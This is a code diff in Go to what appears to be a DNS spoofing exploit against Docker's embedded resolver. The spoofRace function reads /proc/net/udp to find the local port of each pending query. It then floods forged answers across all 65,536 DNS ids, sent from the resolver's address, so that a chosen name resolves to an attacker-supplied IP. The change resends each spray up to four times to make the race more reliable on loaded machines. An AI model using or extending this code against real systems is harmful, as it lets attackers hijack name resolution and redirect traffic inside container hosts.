@@ -188,8 +188,8 @@ func dockerResolverPort() (int, error) {
 // spoofRace answers netd's upstream queries for NAME before Docker can. It polls /proc/net/udp
 // for sockets connected to 127.0.0.11:53 — netd's queries, whose local port anyone can read
 // there — and sends each one answer per DNS id (65,536), NAME A ANSWER, from Docker's resolver
-// address and real port: the source of the reply netd waits for. ok when a query was answered
-// by every id.
+// address and real port: the source of the reply netd waits for; again while the query waits,
+// up to [sprayRounds] times. ok when a query was answered by every id.
 func spoofRace(args []string) map[string]any {
 	if len(args) < 3 {
 		return map[string]any{"ok": false, "error": "need NAME ANSWER SECONDS"}
@@ -208,16 +208,31 @@ func spoofRace(args []string) map[string]any {
 		return failed(err)
 	}
 	defer sp.close()
-	seen := map[int]bool{}
+	// A query is sprayed again, up to sprayRounds times, while its socket is still open: a
+	// querier slow to read (a loaded machine) overflows its socket's buffer and drops most of one
+	// spray, perhaps the one right id among them.
+	rounds := map[int]int{}
+	spraying := map[int]<-chan struct{}{}
 	var sprayed []int
 	for deadline := time.Now().Add(time.Duration(secs) * time.Second); time.Now().Before(deadline); {
 		socks, _ := readUDPSockets()
 		for _, s := range socks {
-			if s.Remote.IP == [4]byte{127, 0, 0, 11} && s.Remote.Port == 53 && !seen[s.Local.Port] {
-				seen[s.Local.Port] = true
-				sprayed = append(sprayed, s.Local.Port)
-				sp.spray(&net.UDPAddr{IP: net.IP(s.Local.IP[:]), Port: s.Local.Port})
+			port := s.Local.Port
+			if s.Remote.IP != [4]byte{127, 0, 0, 11} || s.Remote.Port != 53 || rounds[port] >= sprayRounds {
+				continue
 			}
+			if done, ok := spraying[port]; ok {
+				select {
+				case <-done:
+				default:
+					continue // its last spray is still being sent
+				}
+			}
+			if rounds[port] == 0 {
+				sprayed = append(sprayed, port)
+			}
+			rounds[port]++
+			spraying[port] = sp.spray(&net.UDPAddr{IP: net.IP(s.Local.IP[:]), Port: port})
 		}
 		time.Sleep(500 * time.Microsecond)
 	}
@@ -265,12 +280,17 @@ func newSprayer(name string, answer net.IP, port int) (*sprayer, error) {
 	return sp, nil
 }
 
-// spray sends every id to to, in the background.
-func (sp *sprayer) spray(to *net.UDPAddr) {
+// spray sends every id to to, in the background; the channel it returns is closed when all
+// are sent.
+func (sp *sprayer) spray(to *net.UDPAddr) <-chan struct{} {
+	var one sync.WaitGroup
+	done := make(chan struct{})
 	for w, f := range sp.forgers {
 		sp.wg.Add(1)
+		one.Add(1)
 		go func() {
 			defer sp.wg.Done()
+			defer one.Done()
 			start := time.Now()
 			b := append([]byte(nil), sp.tmpl...)
 			for id := w; id < 1<<16; id += len(sp.forgers) {
@@ -285,6 +305,8 @@ func (sp *sprayer) spray(to *net.UDPAddr) {
 			sp.ms.Store(time.Since(start).Milliseconds())
 		}()
 	}
+	go func() { one.Wait(); close(done) }()
+	return done
 }
 
 func (sp *sprayer) close() {
@@ -295,6 +317,9 @@ func (sp *sprayer) close() {
 
 // sprayWorkers is how many sockets share the 65,536 ids of one spray.
 const sprayWorkers = 4
+
+// sprayRounds is how many times spoof-race sprays one query.
+const sprayRounds = 4
 
 // plant runs [plantAll] every 10 s for SECONDS: ok when it sent anything.
 func plant(args []string) map[string]any {
